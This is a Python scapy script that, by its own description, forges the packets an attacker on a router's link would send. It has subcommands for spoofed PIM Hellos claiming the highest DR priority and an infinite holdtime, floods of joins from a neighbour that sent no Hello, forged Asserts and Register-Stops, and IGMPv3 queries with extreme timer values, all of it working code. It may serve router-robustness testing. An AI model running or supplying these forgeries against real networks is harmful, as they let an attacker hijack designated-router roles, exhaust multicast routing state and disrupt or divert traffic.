#!/usr/bin/python3
"""Forges the control packets an attacker on a router's link would send, one kind per
subcommand, and prints what it sent as one line of JSON.

  hellos IFACE SRC ROUTER OFFSUBNET   PIM Hellos claiming holdtime 0xffff and the
                                      highest DR priority: one from OFFSUBNET, one
                                      unicast to ROUTER, one with TTL 64 (the last two
                                      from SRC)
  joins IFACE SRC UPSTREAM COUNT      COUNT (S,G) joins from SRC, which sent no Hello,
                                      to UPSTREAM, holdtime 0xffff, as many packets as
                                      the MTU needs
  assert IFACE SRC SOURCE GROUP N     N Asserts for (SOURCE,GROUP) from SRC with the
                                      best metric there is (preference 0, metric 0)
  register-stop SRC DST SOURCE GROUP  a Register-Stop for (SOURCE,GROUP) unicast from SRC
                                      to DST, routed as any packet
  query IFACE SRC N                   N IGMPv3 general queries from SRC with QRV 7 and
                                      QQIC 0xff (the longest interval)

With "serve", it reads such commands one per line (without the script name) and
answers each with its line of JSON, so that scapy is loaded once for many attacks.

The packets are built by hand (struct) rather than from scapy's PIM layers, which
would take far longer for thousands of joins; scapy sends them. A unicast packet
goes to the next hop's MAC address as the kernel resolved it: scapy's own ARP
gives up after 2 s, and a frame sent to the broadcast MAC is not forwarded."""
import json
import logging
import socket
import struct
import sys
import time

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from inet import checksum  # noqa: E402
from scapy.config import conf  # noqa: E402
from scapy.layers.inet import IP, IPOption_Router_Alert  # noqa: E402
from scapy.layers.l2 import Ether  # noqa: E402
from scapy.packet import Raw  # noqa: E402
from scapy.sendrecv import send, sendp  # noqa: E402

conf.verb = 0

ALL_PIM_ROUTERS = "224.0.0.13"
PIM, IGMP = 103, 2
MTU = 1500
HOLDTIME_FOREVER = 0xFFFF


def addr(a: str) -> bytes:
    return bytes(int(x) for x in a.split("."))


def pim(typ: int, body: bytes) -> bytes:
    """A PIMv2 message with its checksum over the whole message (all types but
    Register)."""
    msg = struct.pack("!BBH", 0x20 | typ, 0, 0) + body
    return msg[:2] + struct.pack("!H", checksum(msg)) + msg[4:]


def unicast(a: str) -> bytes:
    return struct.pack("!BB4s", 1, 0, addr(a))


def encoded(a: str, flags: int = 0) -> bytes:
    """An Encoded-Group or Encoded-Source address with a /32 mask."""
    return struct.pack("!BBBB4s", 1, 0, flags, 32, addr(a))


def arp_entry(ip: str, iface: str):
    with open("/proc/net/arp") as f:
        for line in f.readlines()[1:]:
            fields = line.split()
            if fields[0] == ip and fields[5] == iface and int(fields[2], 16) & 0x2:
                return fields[3]
    return None


def send_unicast(pkt):
    """Sends pkt to the MAC address of its next hop, which the kernel resolves when
    asked to send it a datagram (to the discard port)."""
    iface, _, gw = conf.route.route(pkt[IP].dst)
    hop = pkt[IP].dst if gw == "0.0.0.0" else gw
    deadline = time.monotonic() + 60
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        while (mac := arp_entry(hop, iface)) is None:
            if time.monotonic() > deadline:
                raise SystemExit("no ARP entry for %s on %s" % (hop, iface))
            s.sendto(b"", (hop, 9))
            time.sleep(0.2)
    sendp(Ether(dst=mac) / pkt, iface=iface)


def hello() -> bytes:
    opts = struct.pack("!HHH", 1, 2, HOLDTIME_FOREVER)  # holdtime
    opts += struct.pack("!HHI", 19, 4, 0xFFFFFFFF)  # DR priority: the highest
    opts += struct.pack("!HHI", 20, 4, 0x0BADBEEF)  # generation ID
    return pim(0, opts)


def hellos(iface, src, router, off_subnet):
    send(IP(src=off_subnet, dst=ALL_PIM_ROUTERS, ttl=1, proto=PIM) / Raw(hello()), iface=iface)
    send_unicast(IP(src=src, dst=router, ttl=1, proto=PIM) / Raw(hello()))
    send(IP(src=src, dst=ALL_PIM_ROUTERS, ttl=64, proto=PIM) / Raw(hello()), iface=iface)
    return {"off_subnet": 1, "destination": 1, "ttl": 1}


def joins(iface, src, upstream, count):
    """One group per packet with as many sources as fit: real sources on the stream's
    LAN (10.0.1.10 and up), so that a router that believed them would have a reverse
    path to join toward."""
    per_group = (MTU - 20 - 14 - 12) // 8
    packets, left, g = [], int(count), 0
    while left > 0:
        n = min(left, per_group)
        group = "239.200.%d.%d" % (g // 250, g % 250 + 1)
        body = unicast(upstream) + struct.pack("!BBH", 0, 1, HOLDTIME_FOREVER)
        body += encoded(group) + struct.pack("!HH", n, 0)
        body += b"".join(encoded("10.0.%d.%d" % (1 + i // 240, 10 + i % 240), 0x04) for i in range(n))
        packets.append(IP(src=src, dst=ALL_PIM_ROUTERS, ttl=1, proto=PIM) / Raw(pim(3, body)))
        left -= n
        g += 1
    send(packets, iface=iface)
    return {"packets": len(packets), "joins": int(count), "groups": g}


def assert_(iface, src, source, group, n):
    body = encoded(group) + unicast(source) + struct.pack("!II", 0, 0)
    pkt = IP(src=src, dst=ALL_PIM_ROUTERS, ttl=1, proto=PIM) / Raw(pim(5, body))
    send([pkt] * int(n), iface=iface)
    return {"asserts": int(n)}


def register_stop(src, dst, source, group):
    body = encoded(group) + unicast(source)
    send_unicast(IP(src=src, dst=dst, proto=PIM) / Raw(pim(2, body)))
    return {"register_stops": 1}


def query(iface, src, n):
    # type, max resp code 10 s, checksum, group 0, S=0 QRV=7, QQIC 0xff, no sources
    msg = struct.pack("!BBH4sBBH", 0x11, 100, 0, bytes(4), 0x07, 0xFF, 0)
    msg = msg[:2] + struct.pack("!H", checksum(msg)) + msg[4:]
    pkt = IP(src=src, dst="224.0.0.1", ttl=1, proto=IGMP, tos=0xC0, options=[IPOption_Router_Alert()]) / Raw(msg)
    send([pkt] * int(n), iface=iface)
    return {"queries": int(n)}


COMMANDS = {
    "hellos": hellos,
    "joins": joins,
    "assert": assert_,
    "register-stop": register_stop,
    "query": query,
}

def run(args):
    if not args or args[0] not in COMMANDS:
        sys.exit(__doc__)
    print(json.dumps(COMMANDS[args[0]](*args[1:])), flush=True)


if __name__ == "__main__":
    if sys.argv[1:] == ["serve"]:
        print(json.dumps({"ready": 1}), flush=True)
        for line in sys.stdin:
            run(line.split())
    else:
        run(sys.argv[1:])
